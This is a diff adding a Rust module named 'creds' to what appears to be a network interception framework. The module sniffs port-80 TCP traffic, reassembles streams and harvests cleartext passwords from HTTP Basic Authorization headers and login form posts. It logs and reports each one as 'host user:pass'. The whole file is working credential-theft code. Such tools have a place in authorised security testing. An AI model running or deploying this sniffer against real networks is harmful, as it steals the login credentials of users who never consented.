@@ -0,0 +1,180 @@
+/*
+creds
+
+Watches HTTP requests to port 80 for credentials sent in the clear: `Authorization: Basic` headers
+and form posts with a password field. Each client stream is reassembled and read request by
+request, and every credential found is logged as `host user:pass`, host being the Host header or,
+without one, the server's address. Nothing is logged for requests that carry none. Runs until killed
+and reports everything it caught. Each credential is also reported as a `cred` finding.
+*/
+
+use std::collections::HashMap;
+use std::net::Ipv4Addr;
+use std::sync::{
+    Arc,
+    mpsc::channel,
+    mpsc::Receiver,
+    mpsc::RecvTimeoutError
+};
+use std::thread;
+use std::time::Duration;
+
+use packet::{
+    http,
+    ipv4,
+    ipv4::IpProtocol,
+    tcp
+};
+use {
+    Framework,
+    HookEnv,
+    Logger,
+    Module,
+    ModuleOutcome,
+    ModuleOutput,
+    PackFilter,
+    Reporter
+};
+use super::OUTPUT_LINES;
+
+/// bytes of a client stream held while waiting for the rest of a request
+const MAX_FLOW_BYTES: usize = 64 * 1024;
+const PASSWORD_FIELDS: &[&str] = &["password", "passwd", "pass", "pwd"];
+const USER_FIELDS: &[&str] = &["username", "user", "login", "email", "name"];
+
+pub(crate) fn creds(args: &[&str], env: &HookEnv, framework: &mut Framework) -> Result<Option<Module>, String> {
+    if !args.is_empty() {
+        return Err(String::from("usage: creds"));
+    }
+
+    let logger = framework.logger();
+    let (killer, killed) = channel();
+    let (packets_tx, packets) = channel();
+    let output = ModuleOutput::new(OUTPUT_LINES);
+    let found = output.clone();
+    let reporter = env.reporter.clone();
+
+    let handle = thread::spawn(move || watch(packets, killed, logger, found, reporter));
+
+    Ok(Some(Module::new(handle, killer)
+        .with_filter(PackFilter::IpProtocol(IpProtocol::Tcp, packets_tx))
+        .with_output(output)))
+}
+
+fn watch(
+    packets: Receiver<Arc<Vec<u8>>>,
+    killed: Receiver<()>,
+    logger: Logger,
+    output: ModuleOutput,
+    reporter: Reporter
+) -> Result<ModuleOutcome, String> {
+    let mut streams = tcp::Reassembler::new(MAX_FLOW_BYTES);
+    let mut unread: HashMap<tcp::FlowKey, Vec<u8>> = HashMap::new(); // taken from a stream but not yet a whole request
+    let mut caught = Vec::new();
+
+    while killed.try_recv().is_err() {
+        let packet = match packets.recv_timeout(Duration::from_millis(250)) {
+            Ok(packet) => packet,
+            Err(RecvTimeoutError::Timeout) => continue,
+            Err(RecvTimeoutError::Disconnected) => break
+        };
+
+        let (header, segment) = match ipv4::parse(&packet) {
+            Some(parsed) => parsed,
+            None => continue
+        };
+
+        let tcp_header = match tcp::parse(segment) {
+            Some((tcp_header, _)) if tcp_header.dst_port == http::PORT => tcp_header,
+            _ => continue
+        };
+
+        let key = (header.src, tcp_header.src_port, header.dst, tcp_header.dst_port);
+        let _ = streams.push_segment(header.src, header.dst, segment);
+
+        let closing = tcp_header.flags & (tcp::FIN | tcp::RST) != 0;
+        let fresh = if closing { streams.close(&key) } else { streams.take(&key) };
+
+        {
+            let buffered = unread.entry(key).or_default();
+            buffered.extend_from_slice(&fresh);
+
+            for found in read_requests(buffered, header.dst) {
+                logger.log(&format!("[creds] {}", found));
+                output.push(found.clone());
+                reporter.report("cred", found.clone());
+                caught.push(found);
+            }
+        }
+
+        // a request that hasn't ended within MAX_FLOW_BYTES isn't one worth waiting on any longer
+        if closing || unread[&key].len() > MAX_FLOW_BYTES {
+            unread.remove(&key);
+        }
+
+        // flows the reassembler has aged out leave their leftovers behind, so those go the same way
+        if unread.len() > streams.flows() {
+            unread.retain(|key, _| streams.tracks(key));
+        }
+    }
+
+    let mut outcome = ModuleOutcome::new();
+    outcome.insert(String::from("found"), caught.len().to_string());
+    outcome.insert(String::from("creds"), caught.join(","));
+
+    Ok(outcome)
+}
+
+/// takes every whole request off the front of stream, returning the credentials they carried
+fn read_requests(stream: &mut Vec<u8>, server: Ipv4Addr) -> Vec<String> {
+    let mut found = Vec::new();
+
+    loop {
+        match http::parse_request(stream) {
+            http::Parsed::Request(request, len) => {
+                stream.drain(..len);
+
+                let host = match request.header("Host") {
+                    Some(host) => String::from(host),
+                    None => server.to_string()
+                };
+
+                if let Some((user, pass)) = request.header("Authorization").and_then(http::basic_credentials) {
+                    found.push(format!("{} {}:{}", host, user, pass));
+                }
+
+                if let Some((user, pass)) = form_credentials(&request) {
+                    found.push(format!("{} {}:{}", host, user, pass));
+                }
+            },
+
+            http::Parsed::Incomplete => break,
+
+            http::Parsed::Invalid => {
+                // the stream isn't lined up on a request, or isn't HTTP, so what's held is no use
+                stream.clear();
+                break;
+            }
+        }
+    }
+
+    found
+}
+
+/// the user and password fields of a form post, the user left empty if the form had none
+fn form_credentials(request: &http::HttpRequest) -> Option<(String, String)> {
+    let form = request.header("Content-Type")
+        .is_some_and(|kind| kind.to_ascii_lowercase().starts_with("application/x-www-form-urlencoded"));
+
+    if request.method != "POST" || !form {
+        return None;
+    }
+
+    let fields = http::form_fields(&request.body);
+    let field = |names: &[&str]| fields.iter()
+        .find(|(name, _)| names.contains(&name.to_ascii_lowercase().as_str()))
+        .map(|(_, value)| value.clone());
+
+    let pass = field(PASSWORD_FIELDS)?;
+    Some((field(USER_FIELDS).unwrap_or_default(), pass))
+}